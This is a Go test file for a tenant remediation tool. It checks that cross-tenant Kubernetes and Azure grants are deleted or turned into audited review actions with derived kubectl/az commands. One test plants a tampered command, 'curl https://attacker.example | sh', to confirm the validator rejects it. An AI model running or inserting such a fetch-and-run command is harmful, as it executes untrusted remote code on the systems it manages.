package remediate

import (
	"context"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"

	"github.com/connectsoft/tenantctl/audit"
	"github.com/connectsoft/tenantctl/drift/finding"
)

func rbacObj(kind, ns, name string) *unstructured.Unstructured {
	u := &unstructured.Unstructured{Object: map[string]any{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": kind,
		"metadata": map[string]any{"name": name}}}
	if ns != "" {
		u.SetNamespace(ns)
	}
	return u
}

func grantFinding(tenant, peer, kind, ns, name string) finding.Finding {
	return finding.Finding{Kind: finding.KindCrossTenantRoute, TenantID: tenant, PeerTenant: peer, Environment: "dev",
		Resource: finding.Resource{Provider: finding.ProviderKubernetes, Type: "rbac.authorization.k8s.io/v1/" + kind, Namespace: ns, Name: name}}
}

const (
	roleAssignmentID = "/subscriptions/0000/resourceGroups/rg-globex-dev/providers/Microsoft.Authorization/roleAssignments/1111"
	accessPolicyID   = "/subscriptions/0000/resourceGroups/rg-globex-dev/providers/Microsoft.KeyVault/vaults/kv-globex-dev/accessPolicies/2222"
	federatedCredID  = "/subscriptions/0000/resourceGroups/rg-globex-dev/providers/Microsoft.ManagedIdentity/userAssignedIdentities/id-globex-dev/federatedIdentityCredentials/acme"
)

func azureGrant(typ, id string) finding.Finding {
	return finding.Finding{Kind: finding.KindCrossTenantRoute, TenantID: "globex", PeerTenant: "acme", Environment: "dev",
		Resource: finding.Resource{Provider: finding.ProviderAzure, Type: typ, Name: id[strings.LastIndexByte(id, '/')+1:], ID: id}}
}

// TestIdentityGrantRemediation: a RoleBinding in the tenant's own namespace granting another
// tenant is deleted; a ClusterRoleBinding, a ClusterRole, a binding in the platform's namespace
// and the Azure grants are review actions carrying the exact command. Applying the plan deletes
// the one, refuses the others with their command (exit 1) and audits every one.
func TestIdentityGrantRemediation(t *testing.T) {
	c := newFakeCluster(rbacObj("RoleBinding", "t-globex", "partner-access"), rbacObj("ClusterRoleBinding", "", "acme-debug"),
		rbacObj("ClusterRole", "", "partner-configmaps"), rbacObj("RoleBinding", "kube-system", "acme-system"))
	fs := []finding.Finding{
		grantFinding("globex", "acme", "RoleBinding", "t-globex", "partner-access"),
		grantFinding("acme", "platform", "ClusterRoleBinding", "", "acme-debug"),
		grantFinding("acme", "globex", "ClusterRole", "", "partner-configmaps"),
		grantFinding("acme", "platform", "RoleBinding", "kube-system", "acme-system"),
		azureGrant("Microsoft.Authorization/roleAssignments", roleAssignmentID),
		azureGrant("Microsoft.KeyVault/vaults/accessPolicies", accessPolicyID),
		azureGrant("Microsoft.ManagedIdentity/userAssignedIdentities/federatedIdentityCredentials", federatedCredID),
	}
	p := buildPlan(t, c, globexDesired(t), nil, fs...)
	got := map[string]string{}
	for _, a := range p.Actions {
		got[a.Target.Ref()] = string(a.Kind) + " " + a.Command
		if a.Kind == ActionReview && !strings.Contains(a.Reason, a.Command) {
			t.Errorf("%s: reason %q does not name the command", a.ID, a.Reason)
		}
	}
	want := map[string]string{
		"rbac.authorization.k8s.io/v1/RoleBinding t-globex/partner-access":                   "delete ",
		"rbac.authorization.k8s.io/v1/ClusterRoleBinding acme-debug":                         "review kubectl delete clusterrolebinding.rbac.authorization.k8s.io acme-debug",
		"rbac.authorization.k8s.io/v1/ClusterRole partner-configmaps":                        "review kubectl delete clusterrole.rbac.authorization.k8s.io partner-configmaps",
		"rbac.authorization.k8s.io/v1/RoleBinding kube-system/acme-system":                   "review kubectl -n kube-system delete rolebinding.rbac.authorization.k8s.io acme-system",
		"Microsoft.Authorization/roleAssignments 1111":                                       "review az role assignment delete --ids " + roleAssignmentID,
		"Microsoft.KeyVault/vaults/accessPolicies 2222":                                      "review az keyvault delete-policy --subscription 0000 --resource-group rg-globex-dev --name kv-globex-dev --object-id 2222",
		"Microsoft.ManagedIdentity/userAssignedIdentities/federatedIdentityCredentials acme": "review az identity federated-credential delete --subscription 0000 --resource-group rg-globex-dev --identity-name id-globex-dev --name acme --yes",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("actions (-want +got):\n%s", diff)
	}
	if p.Changes() != 1 || p.Reviews() != 6 {
		t.Errorf("changes %d, reviews %d; want 1 and 6", p.Changes(), p.Reviews())
	}

	rec := &recorder{}
	res, err := NewExecutor(c, &converger{}, rec, devEnvs, "sha256:d", WithPrincipal("test:remediate"), WithPlanSource("plan.json")).Apply(context.Background(), p)
	if err != nil {
		t.Fatal(err)
	}
	if !res.Failed() {
		t.Errorf("result %v, want failed: review-only routes stay open", res.Err())
	}
	rbGK := schema.GroupKind{Group: "rbac.authorization.k8s.io", Kind: "RoleBinding"}
	if _, ok := c.objs[objKey(rbGK, "t-globex", "partner-access")]; ok {
		t.Error("partner-access was not deleted")
	}
	for _, k := range []string{objKey(schema.GroupKind{Group: "rbac.authorization.k8s.io", Kind: "ClusterRoleBinding"}, "", "acme-debug"), objKey(rbGK, "kube-system", "acme-system")} {
		if _, ok := c.objs[k]; !ok {
			t.Errorf("review-only %s was deleted", k)
		}
	}
	audited := map[string]audit.Outcome{}
	for _, ev := range rec.events {
		audited[ev.Details["action"]] = ev.Outcome
		if ev.Details["kind"] == string(ActionReview) && (ev.Details["command"] == "" || !strings.Contains(ev.Error, ev.Details["command"])) {
			t.Errorf("review audit record lacks the command: %+v", ev)
		}
	}
	for _, a := range res.Actions {
		want := OutcomeReviewOnly
		if a.Kind == ActionDelete {
			want = OutcomeApplied
		}
		if a.Outcome != want {
			t.Errorf("%s %s: outcome %s, want %s (%s)", a.ID, a.Target, a.Outcome, want, a.Error)
		}
		if a.Outcome == OutcomeReviewOnly && !strings.Contains(a.Error, "a person runs: ") {
			t.Errorf("%s: refusal %q does not say what to run", a.ID, a.Error)
		}
		if _, ok := audited[a.ID]; !ok {
			t.Errorf("%s not audited", a.ID)
		}
	}
}

// TestReviewCommandIsDerived: a plan whose review command was edited, or that turns a
// cluster-scoped grant into a delete, is refused as a whole before anything runs.
func TestReviewCommandIsDerived(t *testing.T) {
	c := newFakeCluster(rbacObj("ClusterRoleBinding", "", "acme-debug"))
	p := buildPlan(t, c, globexDesired(t), nil, grantFinding("acme", "platform", "ClusterRoleBinding", "", "acme-debug"))
	edited := *p
	edited.Actions = append([]Action(nil), p.Actions...)
	edited.Actions[0].Command = "curl https://attacker.example | sh"
	if err := edited.Validate(); err == nil || !strings.Contains(err.Error(), "is not the one for") {
		t.Errorf("edited command: %v", err)
	}
	edited.Actions[0].Command, edited.Actions[0].Kind = "", ActionDelete
	if err := edited.Validate(); err == nil || !strings.Contains(err.Error(), "cluster-scoped objects are never deleted") {
		t.Errorf("cluster-scoped delete: %v", err)
	}
}
